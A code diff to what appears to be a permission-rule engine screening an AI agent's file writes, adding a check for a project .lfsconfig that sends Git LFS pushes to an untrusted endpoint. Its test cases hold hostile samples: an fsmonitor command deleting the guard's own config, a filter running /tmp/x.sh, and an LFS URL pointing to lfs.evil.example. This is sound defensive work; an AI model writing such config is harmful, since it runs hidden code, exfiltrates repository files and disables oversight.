@@ -2863,6 +2863,8 @@ def git_config_verdict(path: str, text: str, sc: Scope) -> str | None:
             return None  # a worktree's or submodule's gitfile: the repository lives in a .git folder, protected
         return f"{base} points git at {m.group(1).strip()}, a repository folder whose config and hooks clearance does not protect"
     low = base.lower()
+    if low == ".lfsconfig" and text:
+        return _lfs_endpoint_written(base, text, path, sc)
     if not text or "[" not in text or not (low == "config" or "gitconfig" in low):
         return None
     from ..shell.unwrap import git_program_key, git_word_value
@@ -2896,6 +2898,37 @@ def git_config_verdict(path: str, text: str, sc: Scope) -> str | None:
     return None
 
 
+def _lfs_endpoint_written(base: str, text: str, path: str, sc: Scope) -> str | None:
+    """Why a project's `.lfsconfig` (git configuration Git LFS reads from the work tree) sends the large files of
+    every later `git push` outside the trust boundary: an lfs.url, lfs.pushurl or remote.NAME.lfsurl/lfspushurl that
+    is not a trusted remote nor a repository in the project (adversarial round 19a; `git config -f .lfsconfig KEY URL`
+    is git.push-target-change)."""
+    from .git import _lfs_endpoint_key
+
+    section = ""
+    for line in text.splitlines()[:5000]:
+        head = _GIT_SECTION.match(line)
+        if head is not None:
+            section = head.group(1).lower() + ("." + head.group(2) if head.group(2) is not None else "")
+            line = line[head.end() :]  # git reads a key on the header's own line too
+        kv = _GIT_KEY.match(line)
+        if kv is None or not section or not _lfs_endpoint_key(section + "." + kv.group(1)):
+            continue
+        value = (kv.group(2) or "").split(" #", 1)[0].split(" ;", 1)[0].strip().strip('"')
+        if not value or sc.trust.remote_is_trusted(value):
+            continue
+        if (
+            DYN not in value
+            and "://" not in value
+            and ":" not in value.split("/", 1)[0]
+            and sc.inside_project(paths.resolve(value, pathstr.dirname(path), sc.ctx.home))
+        ):
+            continue  # a repository inside the project
+        key = section + "." + kv.group(1).lower()
+        return f"{base} sets {key} = {value[:80]}: Git LFS sends the large files of every later git push there, which is not a trusted git remote"
+    return None
+
+
 @rule(
     id="write.git-config-code",
     title="Writing git configuration that runs a program, outside .git/config",
@@ -2904,7 +2937,9 @@ def git_config_verdict(path: str, text: str, sc: Scope) -> str | None:
         "`GIT_DIR` or a folder's shape (a bare repository) says: core.fsmonitor, a filter's clean command, an include "
         "or a hooks path written into such a `config` runs at the next `git status` there, a command clearance reads as "
         "harmless. Writing the same keys with `git config` is git.config-code; a dotfiles gitconfig may hold them on "
-        "purpose, so a person confirms. A gitfile that points outside a `.git` folder is asked for the same reason."
+        "purpose, so a person confirms. A gitfile that points outside a `.git` folder is asked for the same reason, and a "
+        "project's `.lfsconfig` naming an untrusted Git LFS endpoint (lfs.url, remote.NAME.lfsurl): every later `git push` "
+        "to the trusted origin sends the large files there."
     ),
     verdict=ASK,
     scope="action",
@@ -2913,8 +2948,10 @@ def git_config_verdict(path: str, text: str, sc: Scope) -> str | None:
         {"tool_name": "Write", "tool_input": {"file_path": "/tmp/g/config", "content": "[core]\n\tfsmonitor = sh -c 'rm -rf ~/.config/clearance'\n"}},
         {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/vendor/lib.git/config", "content": '[filter "x"]\n\tclean = sh /tmp/x.sh\n'}},
         {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/sub/.git", "content": "gitdir: /tmp/g\n"}},
+        {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/.lfsconfig", "content": "[lfs]\n\turl = https://lfs.evil.example/x\n"}},
     ),
     no_match=(
+        {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/.lfsconfig", "content": "[lfs]\n\tfetchexclude = docs/*\n"}},
         {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/deploy/config", "content": "[core]\nworkers = 4\n"}},
         {
             "tool_name": "Write",
